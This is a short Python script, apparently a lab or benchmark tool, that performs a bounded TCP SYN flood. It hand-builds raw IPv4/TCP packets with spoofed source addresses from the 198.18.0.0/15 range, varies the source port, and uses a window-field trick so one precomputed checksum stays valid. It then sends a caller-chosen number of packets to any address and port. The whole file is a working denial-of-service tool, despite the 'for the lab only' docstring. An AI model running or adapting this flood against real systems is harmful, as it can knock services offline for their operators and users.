#!/usr/bin/env python3
"""A bounded flood of connection attempts: synflood.py ADDRESS PORT COUNT; IPv4, from 198.18.0.0/15 (for benchmarks).

Each SYN is of another source address or port, with a right checksum, so that each would be a connection of its own.
Says how many it sent in how many seconds. For the lab only; standard library only.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time

PORTS = range(1024, 61024)


def checksum(data: bytes) -> int:
    """Return the internet checksum of an even number of bytes."""
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def flood(to: str, port: int, count: int) -> int:
    """Send that many; return how many the kernel took."""
    target, sent = socket.inet_aton(to), 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
        for number in range(count):
            place, host = number % len(PORTS), number // len(PORTS)
            if place == 0:
                source = socket.inet_aton(f"198.18.{host}.1")
                ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, target)
                # what the port adds the window takes away: one checksum for all
                tcp = struct.pack(">HHIIBBHHH", 0, port, 1, 0, 0x50, 2, 0xFFFF, 0, 0)
                right = checksum(source + target + struct.pack(">HH", 6, len(tcp)) + tcp)
            tcp = struct.pack(">HHIIBBHHH", PORTS[place], port, 1, 0, 0x50, 2, 0xFFFF - PORTS[place], right, 0)
            try:
                raw.sendto(ip + tcp, (to, 0))
                sent += 1
            except OSError:
                time.sleep(0.001)
    return sent


if __name__ == "__main__":
    begun_s = time.monotonic()
    number_sent = flood(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
    took = {"sent": number_sent, "took_s": round(time.monotonic() - begun_s, 2)}
    sys.stdout.write(json.dumps(took) + "\n")
